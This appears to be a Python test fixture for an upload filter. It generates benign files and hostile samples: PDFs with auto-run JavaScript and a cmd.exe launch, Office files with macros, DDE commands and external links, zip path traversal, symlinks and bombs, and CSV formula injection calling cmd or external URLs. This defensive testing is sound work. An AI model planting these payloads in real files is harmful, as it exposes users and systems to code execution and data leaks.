"""Files that must not become attachments: each does more than be read, or is not what its name says."""

from __future__ import annotations

import io
import stat
import zipfile
import zlib
from collections.abc import Iterator

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml", "ofd": "OFD.xml"}
PNG = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\0IEND\xaeB`\x82"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
CSV = "序号,名称\n1,公共书屋\n".encode()


def packed(members: dict[str, bytes | str], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip file with these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def office(kind: str, **more: bytes | str) -> bytes:
    """An office file; further members by name, with / written as __ and . as _dot_."""
    members: dict[str, bytes | str] = {"[Content_Types].xml": TYPES, MAIN[kind]: "<document/>"}
    members |= {name.replace("__", "/").replace("_dot_", "."): data for name, data in more.items()}
    return packed(members)


def pdf(catalog: str = "", rest: bytes = b"") -> bytes:
    """A document of one object."""
    head = f"%PDF-1.7\n1 0 obj\n<< /Type /Catalog {catalog} >>\nendobj\n".encode()
    return head + rest + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def stream(data: bytes, kind: str = "/ObjStm", filtered: str = "/Filter /FlateDecode") -> bytes:
    """A stream object."""
    return (
        f"2 0 obj\n<< /Type {kind} {filtered} /Length {len(data)} >>\nstream\n".encode()
        + data
        + b"\nendstream\nendobj\n"
    )


def relationships(kind: str, target: str, mode: str = "External") -> str:
    """A part's relationships: one, to somewhere."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{base}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def harmless() -> Iterator[tuple[str, bytes]]:
    """Files that look a little like the hostile ones and must be let through."""
    yield "a.csv", CSV
    yield "b.csv", "姓名,变化\n甲,-5\n乙,+3\n丙,=1+1\n".encode("gb18030")
    yield "a.txt", "=cmd 只是文字".encode()
    yield "a.pdf", pdf("/Title (JavaScript)")
    yield "b.pdf", pdf(rest=stream(zlib.compress(b"<< /Type /Page >>")))
    yield "c.pdf", pdf(rest=stream(b"\x01/JS \x02/Launch(" * 9, "/XObject", "/Filter /DCTDecode"))
    yield (
        "a.docx",
        office("docx", word___rels__document_dot_xml_dot_rels=relationships("hyperlink", "https://example.gov.cn")),
    )
    yield "b.docx", office("docx", word__embeddings__sheet1_dot_xlsx=office("xlsx"))
    yield "a.xlsx", office("xlsx")
    yield "a.pptx", office("pptx")
    yield "a.ofd", office("ofd")
    yield "a.zip", packed({"说明.txt": "文字", "表/表.csv": CSV, "内/包.zip": packed({"a.txt": "文字"})})
    yield "a.png", PNG
    yield "a.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 20 + b"\xff\xd9"
    yield "a.gif", b"GIF89a" + b"\0" * 20
    yield "a.webp", b"RIFF\x10\0\0\0WEBPVP8 "
    yield "a.doc", OLE
    yield "a.mp4", b"\0\0\0\x18ftypmp42"


def hostile() -> Iterator[tuple[str, bytes]]:
    """Files by name, every name once."""
    yield from _named_wrongly()
    yield from _documents()
    yield from _office_files()
    yield from _archives()
    yield from _tables()


def _named_wrongly() -> Iterator[tuple[str, bytes]]:
    page = b"<!doctype html><script>alert(1)</script>"
    for n, name in enumerate(
        (
            "程序.exe",
            "页面.html",
            "图.svg",
            "脚本.js",
            "宏.docm",
            "宏.xlsm",
            "快捷.lnk",
            "包.rar",
            "包.7z",
            "无扩展名",
            "双.pdf.exe",
        )
    ):
        yield name, b"MZ" if n == 0 else page
    for kind in ("pdf", "docx", "xlsx", "doc", "xls", "png", "jpg", "gif", "webp", "zip", "mp3", "mp4", "ofd"):
        yield f"页面.{kind}", page
    yield "程序.txt", b"MZ\x90\0\x03\0\0\0"
    yield "乱.txt", b"\xff\xfe\xfd\x81"
    yield "宽.csv", "序号,名称".encode("utf-16")
    yield "表.docx", office("xlsx")
    yield "文.xlsx", office("docx")
    yield "包.docx", packed({"a.txt": "文字"})
    yield "声.webp", b"RIFF\x10\0\0\0AVI LIST"
    yield "尾.png", PNG + packed({"a.txt": "文字"})


def _documents() -> Iterator[tuple[str, bytes]]:
    script = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    yield "脚本.pdf", pdf(script)
    yield "转义.pdf", pdf("/OpenAction << /S /J#61vaScript /#4A#53 (1) >>")
    yield "启动.pdf", pdf("/AA << /O << /S /Launch /F (cmd.exe) >> >>")
    yield "嵌入.pdf", pdf("/Names << /EmbeddedFiles 3 0 R >>")
    yield "表单.pdf", pdf("/AcroForm << /XFA 3 0 R >>")
    yield "提交.pdf", pdf("/AA << /O << /S /SubmitForm /F (https://example.com) >> >>")
    yield "远处.pdf", pdf("/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\x.pdf) >>")
    yield "媒体.pdf", pdf("/Annots [ << /Subtype /RichMedia >> ]")
    yield "压缩.pdf", pdf(rest=stream(zlib.compress(f"3 0 << {script} >>".encode())))
    yield "别的压缩.pdf", pdf(rest=stream(b"x" * 40, filtered="/Filter /LZWDecode"))
    yield "假流.pdf", pdf(rest=b"% stream\n" + f"3 0 obj\n<< {script} >>\nendobj\n".encode() + b"% endstream\n")
    yield "炸弹.pdf", pdf(rest=stream(zlib.compress(b"\0" * (80 * 2**20))))
    yield "断.pdf", pdf()[:-8]


def _office_files() -> Iterator[tuple[str, bytes]]:
    yield "宏.docx", office("docx", word__vbaProject_dot_bin=b"x")
    yield "宏.xlsx", office("xlsx", xl__VBAPROJECT_dot_BIN=b"x")
    yield "宏.pptx", office("pptx", ppt__vbaProject_dot_bin=b"x")
    yield "老宏.xlsx", office("xlsx", xl__macrosheets__sheet1_dot_xml="<x/>")
    yield "控件.docx", office("docx", word__activeX__activeX1_dot_xml="<x/>")
    yield "对象.docx", office("docx", word__embeddings__oleObject1_dot_bin=OLE)
    yield "外部.xlsx", office("xlsx", xl__externalLinks__externalLink1_dot_xml="<x/>")
    for kind in ("attachedTemplate", "oleObject", "frame", "image", "subDocument"):
        rels = relationships(kind, "https://example.com/x")
        yield f"外部{kind}.docx", office("docx", word___rels__settings_dot_xml_dot_rels=rels)
    yield (
        "宏类型.docx",
        packed(
            {"[Content_Types].xml": TYPES.replace("<Types", "<Types a='x.macroEnabled.main'"), MAIN["docx"]: "<x/>"}
        ),
    )
    entity = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    yield "实体.docx", office("docx", word___rels__document_dot_xml_dot_rels=entity)
    yield (
        "命令.docx",
        packed({"[Content_Types].xml": TYPES, MAIN["docx"]: "<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"}),
    )
    yield "夹带.docx", office("docx", word__embeddings__x_dot_docx=office("docx", word__vbaProject_dot_bin=b"x"))
    yield "宏.doc", OLE + "_VBA_PROJECT".encode("utf-16-le")
    yield "宏.xls", OLE + b"_VBA_PROJECT_CUR"
    yield "包裹.doc", OLE + "\x01Ole10Native".encode("utf-16-le")
    yield "加密.xls", OLE + "EncryptedPackage".encode("utf-16-le")


def _archives() -> Iterator[tuple[str, bytes]]:
    for n, name in enumerate(
        (
            "../外.txt",
            "a/../../外.txt",
            "/etc/外.txt",
            "C:/外.txt",
            "..\\外.txt",
            "a.exe",
            "a.JS",
            "深/a.lnk",
            "a.exe ",
            "内.rar",
        )
    ):
        yield f"成员{n}.zip", packed({name: "x"})
    yield "夹带.zip", packed({"内.zip": packed({"更内.zip": packed({"a.exe": "x"})})})
    yield "炸弹.zip", packed({"大.txt": b"\0" * (60 * 2**20)})
    link = zipfile.ZipInfo("链接")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield "链接.zip", out.getvalue()
    yield "断.zip", packed({"a.txt": "文字" * 99})[:-30]
    secret = bytearray(packed({"a.txt": "文字"}, method=zipfile.ZIP_STORED))
    for place in (6, secret.index(b"PK\x01\x02") + 8):
        secret[place] |= 1
    yield "加密.zip", bytes(secret)
    twice = packed({"a.txt": "一", "A.txt": "二"})
    yield "重名.zip", twice


def _tables() -> Iterator[tuple[str, bytes]]:
    cells = (
        "=cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("https://example.com?"&A1)',
        '=WEBSERVICE("https://example.com")',
        '=IMPORTXML("https://example.com","//a")',
        "+cmd|'/C calc'!A0",
    )
    for n, cell in enumerate(cells):
        yield f"公式{n}.csv", f'序号,名称\n1,"{cell}"\n'.encode() if n % 2 else f"序号,名称\n1,{cell}\n".encode()
